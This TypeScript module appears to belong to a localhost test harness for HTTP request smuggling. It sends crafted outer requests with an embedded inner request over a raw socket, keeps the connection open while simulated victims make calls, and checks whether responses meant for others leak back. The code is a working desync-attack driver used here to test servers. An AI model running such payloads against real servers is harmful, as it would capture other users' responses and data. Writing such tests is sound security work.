import { connect, type Socket } from 'node:net';
import type { Door } from '../doors/doors.ts';
import { CALLER, innerRequest, type Payload } from '../payloads/payload.ts';
import type { Crowd } from './crowd.ts';

/** One send of a payload. */
export interface Play {
  payload: Payload;
  /** Names its requests: `…outer`, `…inner` and `…last`. */
  name: string;
  target: string;
  /** Whether the inner request is whole, or takes the next one's lines for its own. */
  isWhole: boolean;
  /** Whether the head goes out first and the rest after it. */
  isInTwo: boolean;
}

export interface Played {
  /** Whether the inner request was answered, and to whom it belongs: to the one who sent it. */
  isInnerAnswered: boolean;
  /** What it was sent of another's. */
  leaked: string[];
}

/** Calls of victims that follow a payload while its connection is open: what is poisoned is given to one of them. */
const CALLS_AFTER = 10;
/** Who was sent no answer by then is sent none. */
const CALLS_IF_TAKEN = 500;

/** Sends a payload on a connection of its own, and keeps it open while victims are answered again. */
export async function play(door: Door, crowd: Crowd, it: Play): Promise<Played> {
  const { port } = door;
  const bytes = it.payload.bytes({
    target: it.target,
    host: `127.0.0.1:${port}`,
    caller: `${it.name}.outer`,
    inner: innerRequest(`${it.name}.inner`, it.isWhole),
  });
  const socket = connect(port, '127.0.0.1');
  let received = '';
  socket.setNoDelay(true);
  socket.on('data', (data) => (received += data.toString('latin1')));
  // A door that hangs up on such bytes is right to.
  socket.on('error', () => socket.destroy());
  const isClosed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  const isHeard = new Promise<void>((resolve) => socket.once('data', () => resolve()));
  const headEnd = it.isInTwo ? bytes.indexOf('\r\n\r\n') + 4 : 0;
  for (const part of [bytes.slice(0, headEnd), bytes.slice(headEnd)]) await send(socket, part);
  // Some wait for more content for ever: then the victims' going on is all there is to wait for.
  await Promise.race([isHeard, isClosed, crowd.afterCalls(CALLS_AFTER)]);
  await crowd.afterCalls(CALLS_AFTER);
  // Answers come in their order: a door that reads on answers this last, after all that it read before, and hangs up.
  await send(
    socket,
    `GET ${it.target} HTTP/1.1\r\nHost: last\r\n${CALLER}: ${it.name}.last\r\nConnection: close\r\n\r\n`,
  );
  await Promise.race([isClosed, crowd.afterCalls(CALLS_AFTER)]);
  // On a busy machine the inner one's answer may be on its way still, and it is to be known whose it is.
  const isTaken = door.seen().some(({ caller }) => caller.includes(`${it.name}.inner`));
  if (isTaken) await Promise.race([isClosed, crowd.afterCalls(CALLS_IF_TAKEN)]);
  socket.destroy();
  return readAnswers(it.name, received);
}

const send = (socket: Socket, part: string) =>
  part === '' || socket.destroyed
    ? undefined
    : new Promise<void>((resolve) => {
        socket.once('close', () => resolve());
        socket.write(part, 'latin1', () => resolve());
      });

function readAnswers(name: string, received: string): Played {
  const answered = [...received.matchAll(/^x-answers: (.*?)\r?$/gim)].flatMap(
    ([, whose]) => whose?.split(', ') ?? [],
  );
  const own = new Set(['outer', 'inner', 'last'].map((which) => `${name}.${which}`).concat('nobody'));
  const leaked = answered.filter((whose) => !own.has(whose)).map((whose) => `answer to ${whose}`);
  // Victims' names are part of their addresses, which stand in what is answered to them.
  const named = /victim-[\w@.-]+/.exec(received);
  return {
    isInnerAnswered: answered.includes(`${name}.inner`),
    leaked: leaked.length > 0 || !named ? leaked : [`names ${named[0]}`],
  };
}
